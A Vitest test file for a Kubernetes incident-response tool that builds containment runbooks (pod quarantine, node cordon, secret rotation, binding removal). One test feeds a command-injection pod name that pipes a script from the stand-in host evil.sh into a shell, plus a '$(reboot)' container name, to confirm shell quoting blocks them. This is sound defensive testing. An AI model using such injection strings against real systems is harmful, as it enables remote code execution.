import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { shq } from "../domain/shell";
import { buildRunbook, runbookMarkdown, type TRunbookInput } from "./build-runbook";

const C = "Container/payments/api-7d9f-x1/api";
const POD = { name: "api-7d9f-x1", node: "node-a", containers: ["api"] };
const base: TRunbookInput = {
  incidentId: "cmINC123",
  namespace: "payments",
  pods: [POD],
  serviceAccount: "api",
  paths: [],
  alertsUrl: "https://br.example/api/v1/incidents/cmINC123",
  done: new Set(),
};
const path = (...steps: [string, string, string][]) => ({ asset: steps.at(-1)![2], path: steps.map(([from, edge, to]) => ({ from, edge, to })) });
const ids = (input: Partial<TRunbookInput>) => buildRunbook({ ...base, ...input }).steps.map((s) => s.id);

describe("buildRunbook", () => {
  it("always isolates the alerted pods and preserves evidence first; nothing else without a path", () => {
    expect(ids({})).toEqual(["isolate", "isolate-undo", "evidence-api-7d9f-x1-api", "checkpoint-api-7d9f-x1-api", "evidence-alerts"]);
    const isolate = buildRunbook(base).steps[0];
    expect(isolate.command).toBe("kubectl -n 'payments' label pod 'api-7d9f-x1' blastradius.dev/quarantine=cminc123 --overwrite && kubectl apply -f quarantine.yaml");
    const policy = parse(isolate.manifest!);
    expect(policy).toMatchObject({ kind: "NetworkPolicy", metadata: { namespace: "payments" }, spec: { podSelector: { matchLabels: { "blastradius.dev/quarantine": "cminc123" } }, policyTypes: ["Ingress", "Egress"], ingress: [], egress: [] } });
    const withDns = parse(buildRunbook({ ...base, allowDns: true }).steps[0].manifest!);
    expect(withDns.spec.egress[0].ports).toEqual([{ protocol: "UDP", port: 53 }, { protocol: "TCP", port: 53 }]);
  });

  it("cordons the node only when a path escapes from the pod's container to it", () => {
    expect(ids({ paths: [path([C, "CE_PRIV_MOUNT", "Node/node-a"])] })).toContain("cordon-node-a");
    const step = buildRunbook({ ...base, paths: [path([C, "CE_PRIV_MOUNT", "Node/node-a"])] }).steps.find((s) => s.kind === "node")!;
    expect(step.command).toBe("kubectl cordon 'node-a'\nkubectl drain 'node-a' --ignore-daemonsets --delete-emptydir-data");
    expect(step.why).toContain("CE_PRIV_MOUNT");
    // an escape from another workload's container on the path does not cordon ours
    expect(ids({ paths: [path([C, "IDENTITY_ASSUME", "ServiceAccount/payments/api"]), path(["Container/kube-system/agent-1/a", "CE_NSENTER", "Node/node-b"])] })).not.toContain("cordon-node-b");
  });

  it("drops the token only when a path uses it, rotates each Secret reached, removes each binding used, detaches the cloud role", () => {
    const token = path([C, "IDENTITY_ASSUME", "ServiceAccount/payments/api"], ["ServiceAccount/payments/api", "PERMISSION_DISCOVER", "PermissionSet/payments/read-secrets::api-reads"], ["PermissionSet/payments/read-secrets::api-reads", "SECRET_READ", "Secret/payments/db-password"]);
    const cloud = path([C, "IDENTITY_ASSUME", "ServiceAccount/payments/api"], ["ServiceAccount/payments/api", "WORKLOAD_IDENTITY", "CloudRole/arn:aws:iam::123456789012:role/payments"], ["CloudRole/arn:aws:iam::123456789012:role/payments", "CLOUD_ACCESS", "SensitiveAsset/cardholder-exports"]);
    const clusterWide = path([C, "IDENTITY_ASSUME", "ServiceAccount/payments/api"], ["ServiceAccount/payments/api", "PERMISSION_DISCOVER", "PermissionSet/*/cluster-admin::ci-admin"], ["PermissionSet/*/cluster-admin::ci-admin", "CLUSTER_ADMIN", "ControlPlane/prod"]);
    const { steps } = buildRunbook({ ...base, paths: [token, cloud, clusterWide] });
    const by = (id: string) => steps.find((s) => s.id === id);
    expect(by("identity-token")?.command).toBe("kubectl -n 'payments' delete pod 'api-7d9f-x1'");
    expect(by("rotate-payments-db-password")?.command).toContain("kubectl -n 'payments' create secret generic 'db-password'");
    expect(by("unbind-payments-api-reads")?.command).toBe("kubectl -n 'payments' delete rolebinding 'api-reads'");
    expect(by("unbind-cluster-ci-admin")?.command).toBe("kubectl delete clusterrolebinding 'ci-admin'");
    expect(by("unbind-payments-api-reads")?.manifest).toBeUndefined();
    // with the fixes engine's narrowed role, the step carries it (a Role by its namespace, a ClusterRole by *)
    const narrowedRoles = new Map([
      ["payments/read-secrets", { title: "Remove get/list/watch on secrets from Role payments/read-secrets", yaml: "kind: Role\nrules: []\n" }],
      ["*/cluster-admin", { title: "Remove … from ClusterRole cluster-admin", yaml: "kind: ClusterRole\n" }],
    ]);
    const narrowed = buildRunbook({ ...base, paths: [token, clusterWide], narrowedRoles }).steps;
    expect(narrowed.find((s) => s.id === "unbind-payments-api-reads")).toMatchObject({ manifest: "kind: Role\nrules: []\n" });
    expect(narrowed.find((s) => s.id === "unbind-payments-api-reads")?.why).toContain("Remove get/list/watch on secrets from Role payments/read-secrets");
    expect(narrowed.find((s) => s.id === "unbind-cluster-ci-admin")?.manifest).toBe("kind: ClusterRole\n");
    expect(by("detach-payments-api")?.command).toBe("kubectl -n 'payments' annotate serviceaccount 'api' eks.amazonaws.com/role-arn-");
    expect(steps.filter((s) => s.kind === "node")).toEqual([]);
    // a secret mounted, without the token on any path: rotate, but no pod deletion for a token
    const mounted = ids({ paths: [path([C, "SECRET_MOUNT", "Secret/payments/tls"])] });
    expect(mounted).toContain("rotate-payments-tls");
    expect(mounted).not.toContain("identity-token");
  });

  it("never puts a hostile name into a command, and says what it left out", () => {
    const hostile = "x';curl evil.sh|sh;'";
    const { steps, skipped } = buildRunbook({ ...base, pods: [POD, { name: hostile, node: "node-a", containers: ["api"] }, { name: "ok-pod", node: "node-a", containers: ["$(reboot)"] }] });
    const text = JSON.stringify(steps);
    expect(text).not.toContain("evil.sh");
    expect(text).not.toContain("reboot");
    expect(skipped.join("\n")).toContain("evil.sh");
    expect(steps.find((s) => s.id === "isolate")?.command).toContain("'api-7d9f-x1' 'ok-pod'");
    expect(buildRunbook({ ...base, namespace: "Pay Ments" }).steps.map((s) => s.id)).toEqual(["evidence-alerts"]);
    expect(shq("it's")).toBe(`'it'\\''s'`);
  });

  it("marks ticked steps done and writes Markdown with the commands verbatim", () => {
    const { steps } = buildRunbook({ ...base, done: new Set(["isolate"]) });
    expect(steps.find((s) => s.id === "isolate")?.done).toBe(true);
    expect(steps.find((s) => s.id === "isolate-undo")?.done).toBe(false);
    const md = runbookMarkdown("Terminal shell\nin container", steps);
    expect(md.split("\n")[0]).toBe("# Containment runbook: Terminal shell in container");
    expect(md).toContain("## [x] Quarantine pod api-7d9f-x1");
    expect(md).toContain("```sh\nkubectl -n 'payments' label pod");
  });
});
